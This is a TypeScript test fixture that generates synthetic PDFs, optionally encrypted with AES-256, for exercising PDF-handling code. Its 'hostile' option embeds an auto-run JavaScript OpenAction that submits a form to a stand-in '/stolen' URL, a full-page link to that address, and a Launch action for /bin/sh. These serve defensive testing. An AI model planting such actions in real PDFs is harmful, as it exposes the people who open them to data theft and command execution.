import { createCipheriv, createHash, randomBytes } from 'node:crypto';

/** What a PDF of a test is like. */
export interface PdfOptions {
  readonly pages: number;
  /** Does everything that a document could try: a script at its opening, a link over the first page, a program. */
  readonly hostile?: boolean;
  /** AES-256, without which nothing of it can be read. */
  readonly password?: string;
}

/** Says what stands on a page. */
export const wordsOn = (page: number): string => `This is page ${page} of the report`;

/** A PDF as other programs write it; the second page is wider than high, and the font is not in the file. */
export function pdfOf({ pages, hostile = false, password }: PdfOptions): Buffer {
  const lock = password === undefined ? null : new Lock(password);
  const first = 4;
  const kids = Array.from({ length: pages }, (_, at) => `${first + 2 * at} 0 R`).join(' ');
  const actions = hostile
    ? `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${LINK}'\\)) >>`
    : '';
  const objects: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${actions} >>`,
    `<< /Type /Pages /Count ${pages} /Kids [${kids}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  for (let page = 1; page <= pages; page++) {
    const [width, height] = page === 2 ? [842, 595] : [595, 842];
    const annotations = hostile && page === 1 ? `/Annots [${link('URI', `/URI (${LINK})`)} ${launch}]` : '';
    const number = first + 2 * (page - 1);
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents ${number + 1} 0 R ` +
        `/Resources << /Font << /F1 3 0 R >> >> ${annotations} >>`,
      streamOf(contentOf(page, height), lock),
    );
  }
  if (lock !== null) objects.push(lock.dictionary);
  return fileOf(objects, lock === null ? '' : `/Encrypt ${objects.length} 0 R`);
}

/** Where a hostile one would like to lead. */
const LINK = 'http://127.0.0.9:9/stolen';
const link = (kind: string, what: string): string =>
  `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /${kind} ${what} >> >>`;
const launch = link('Launch', '/F (/bin/sh)');

function contentOf(page: number, height: number): Buffer {
  const title = `BT /F1 24 Tf 72 ${height - 96} Td (${wordsOn(page)}) Tj ET`;
  const lines = Array.from(
    { length: 24 },
    (_, at) =>
      `BT /F1 11 Tf 72 ${height - 140 - at * 16} Td (Line ${at + 1}: the garden grew, and the rain came on time.) Tj ET`,
  );
  return Buffer.from([title, '0.05 0.48 0.5 rg 72 60 200 12 re f', ...lines].join('\n'), 'latin1');
}

function streamOf(content: Buffer, lock: Lock | null): Buffer {
  const bytes = lock === null ? content : lock.sealed(content);
  return Buffer.concat([Buffer.from(`<< /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
}

/** ISO 32000-1 §7.5: header, objects, cross-reference table, trailer. */
function fileOf(objects: readonly (string | Buffer)[], more: string): Buffer {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = chunks[0]?.length ?? 0;
  const add = (chunk: Buffer): void => {
    chunks.push(chunk);
    length += chunk.length;
  };
  objects.forEach((object, at) => {
    offsets.push(length);
    add(Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]));
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const start = length;
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}`));
  add(Buffer.from(`trailer\n<< /Size ${size} /Root 1 0 R ${more} /ID [<00> <00>] >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

const sha256 = (...bytes: Buffer[]): Buffer => createHash('sha256').update(Buffer.concat(bytes)).digest();
const hex = (bytes: Buffer): string => `<${bytes.toString('hex')}>`;

/** The password protection of Adobe's extension level 3: AES-256, revision 5. */
class Lock {
  readonly #key = randomBytes(32);
  readonly dictionary: string;

  constructor(password: string) {
    const secret = Buffer.from(password);
    const wrapped = (bound: Buffer): [Buffer, Buffer] => {
      const [check, salt] = [randomBytes(8), randomBytes(8)];
      const known = Buffer.concat([sha256(secret, check, bound), check, salt]);
      return [known, this.#cbc(sha256(secret, salt, bound), Buffer.alloc(16), this.#key, false)];
    };
    const [user, userKey] = wrapped(Buffer.alloc(0));
    const [owner, ownerKey] = wrapped(user);
    const rights = Buffer.concat([Buffer.from('fcffffffffffffff', 'hex'), Buffer.from('Tadb'), randomBytes(4)]);
    const cipher = createCipheriv('aes-256-ecb', this.#key, null).setAutoPadding(false);
    const permissions = Buffer.concat([cipher.update(rights), cipher.final()]);
    this.dictionary =
      '<< /Filter /Standard /V 5 /R 5 /Length 256 /P -4 /StmF /StdCF /StrF /StdCF ' +
      '/CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> ' +
      `/U ${hex(user)} /UE ${hex(userKey)} /O ${hex(owner)} /OE ${hex(ownerKey)} /Perms ${hex(permissions)} >>`;
  }

  sealed(bytes: Buffer): Buffer {
    const start = randomBytes(16);
    return Buffer.concat([start, this.#cbc(this.#key, start, bytes, true)]);
  }

  #cbc(key: Buffer, start: Buffer, bytes: Buffer, padded: boolean): Buffer {
    const cipher = createCipheriv('aes-256-cbc', key, start).setAutoPadding(padded);
    return Buffer.concat([cipher.update(bytes), cipher.final()]);
  }
}
